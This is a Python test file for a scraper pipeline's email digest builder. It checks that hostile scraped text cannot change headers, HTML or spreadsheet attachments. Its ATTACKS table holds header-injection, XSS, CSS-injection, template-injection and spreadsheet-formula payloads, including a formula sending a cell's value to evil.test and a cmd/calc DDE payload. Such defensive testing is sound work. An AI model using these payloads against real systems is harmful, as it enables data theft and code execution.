"""Tests that hostile scraped text gives a mail with the same structure as harmless text."""

from __future__ import annotations

import csv
import email
import io
import re
import zipfile
from email.message import EmailMessage
from email.policy import default
from typing import Any

import lxml.html
import pytest

from pipeline.mail.digests.build import build
from pipeline.model import Outcome, Reject
from pipeline.store.mail import digests
from pipeline.store.mail import outbox as stored
from tests.mail.conftest import NOW

ATTACKS = {
    "a header": "Sale\r\nBcc: victim@example.com\r\nX-Evil: 1\r\n\r\n<b>new body</b>",
    "a header after a lone line feed": "Sale\nSubject: other\n\n.\n",
    "a folded header": "=?utf-8?q?Sale=0D=0ABcc:_victim@example.com?=",
    "an existing path": "/etc/passwd",
    "a formula": '=HYPERLINK("http://evil.test/?"&A1,"click")',
    "a formula behind a blank": "\t@SUM(1+1)*cmd|' /C calc'!A0",
    "a script": '"><script>alert(1)</script><img src=x onerror=alert(1)><a href="javascript:alert(1)">x</a>',
    "a style": "</style></div></td></tr></table><style>*{display:none}</style><link rel=stylesheet href=//evil.test/x.css>",
    "300 kB": "lorem ipsum " * 25_000,  # more than any limit on texts: MAX_COMPARED, HTML_LIMIT, a cell of a table
    "300 kB without a blank": "x" * 300_000,
    "bidi characters": "invoice\u202efdp.exe\u2066\u2069\u200f",
    "control characters": "a\x00b\x1b[31mc\x07\x08\x9b2Jd\x7f",
    "template syntax": "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}${7*7}#{7*7}",
    "a format string": "{news.__class__} %(x)s %s {0.__init__.__globals__}",
    "a boundary": "--=_mixed_000000000000000000000000--\r\n--=_alternative_00",
    "comments for one client": "<!--[if mso]><iframe src='//evil.test'></iframe><![endif]--><!-- -->",
}
HARMLESS = "Something quite ordinary"


@pytest.fixture
def mails_about(store, site, settings_from):
    """Two digests, of what is new and of what changed, where `text` stands wherever a mail shows something scraped."""

    def made(text: str) -> list[EmailMessage]:
        settings = settings_from(digest='attach = ["csv", "xlsx", "jsonl", "downloads"]\nsubject = "{summary}"\n'
                                 '[spiders.books.items.fields]\nname = "h1"\nbody = { css = "p", type = "html" }\n')
        found = []
        for slot in ("s1", "s2"):
            extra = text if slot == "s1" else f"{text} {text}"
            item: dict[str, Any] = {"name": extra, "url": extra, "list": [extra[:1000], 1], "nested": {extra[:200]: extra[:1000]}, "body": extra, extra[:100]: extra[:1000]}
            site.run({text[:500]: item, "2": {"name": extra[:1000]}}, files=[("a.bin", b"\x00", "text/plain")],
                     rejects=[Reject(extra[:5000], {"name": extra}, "r")])
            site.run(None, outcome=Outcome.FAILED, error=extra[:5000])
            claim = digests.claim(store, "morning", ["books"], slot, owner="me", now=NOW)
            assert claim is not None
            message_id, = build(store, settings, claim, owner="me", now=NOW).message_ids
            message = stored.get(store, message_id)
            assert message is not None
            assert message[0].recipients == ("me@example.com",)
            found.append(email.message_from_bytes(store.files.path(message[0].file_key).read_bytes(), policy=default))
        return found

    return made


def shape(mail: EmailMessage) -> list[Any]:
    """Header names, and each part's type, disposition and file name."""
    return [sorted(mail.keys()), *((part.get_content_type(), part.get_content_disposition(), part.get_filename()) for part in mail.walk())]


def elements(html: str) -> set[str]:
    return {element.tag for element in lxml.html.document_fromstring(html).iter() if isinstance(element.tag, str)}


@pytest.mark.parametrize("text", ATTACKS.values(), ids=ATTACKS.keys())
def test_hostile_text_has_no_effect_anywhere_in_a_mail(text, mails_about, tmp_path) -> None:
    for mail, number in zip(mails_about(text), (1, 2), strict=True):
        assert shape(mail) == SHAPES[number - 1]
        assert mail["To"] == "me@example.com"
        assert len(mail["Subject"]) <= 150
        html = mail.get_body(("html",)).get_content()
        plain = mail.get_body(("plain",)).get_content()
        assert elements(html) <= {"html", "head", "meta", "title", "style", "body", "table", "tbody", "tr", "td", "h1", "h2", "p",
                                  "div", "span", "strong", "a", "del", "ins", "b", "bdi", "code"}
        document = lxml.html.document_fromstring(html)
        assert not [name for element in document.iter() for name in getattr(element, "attrib", ()) if name.startswith("on")]
        assert document.xpath("//@href | //@src") == [f"http://site.test/{2 * number - 1}/0"]  # where the file came from
        assert len(document.xpath("//style")) == 1
        assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200e\u200f]", html + plain)
        assert len(html.encode()) < 100_000
        assert len(plain) < 30_000
        for part in mail.walk():
            content = part.get_payload(decode=True) or b""
            assert b"root:x:0" not in content
            assert b"\nX-Evil" not in content.replace(b'"', b"") or part.get_content_type() != "text/plain"
        assert_tables_are_inert(mail)


def assert_tables_are_inert(mail: EmailMessage) -> None:
    parts = {part.get_content_type(): part.get_payload(decode=True) for part in mail.iter_attachments()}
    limit = csv.field_size_limit(1 << 30)
    rows = list(csv.reader(io.StringIO(parts["text/csv"].decode(), newline="")))
    csv.field_size_limit(limit)
    for row in rows:
        assert not [cell for cell in row if re.match(r"\s*[=+@|\t\r-]", cell) and not re.fullmatch(r"[-+]?[\d.,]+", cell)]
    with zipfile.ZipFile(io.BytesIO(parts["application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"])) as book:
        assert b"<f>" not in book.read("xl/worksheets/sheet1.xml")
        assert "xl/worksheets/_rels/sheet1.xml.rels" not in book.namelist()


_HEADERS = sorted(["Date", "From", "To", "Subject", "Message-ID", "Auto-Submitted", "X-Auto-Response-Suppress", "List-Id",
                   "List-Unsubscribe", "MIME-Version", "Content-Type"])
_PARTS = [
    ("multipart/mixed", None, None), ("multipart/alternative", None, None), ("text/plain", None, None), ("text/html", None, None),
    ("text/csv", "attachment", "morning-2026-11-22.csv"),
    ("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "attachment", "morning-2026-11-22.xlsx"),
    ("application/jsonl", "attachment", "morning-2026-11-22.jsonl"), ("text/plain", "attachment", "a.bin")]
SHAPES = [[_HEADERS, *_PARTS]] * 2


def test_harmless_text_gives_the_same_structure(mails_about) -> None:
    assert [shape(mail) for mail in mails_about(HARMLESS)] == SHAPES
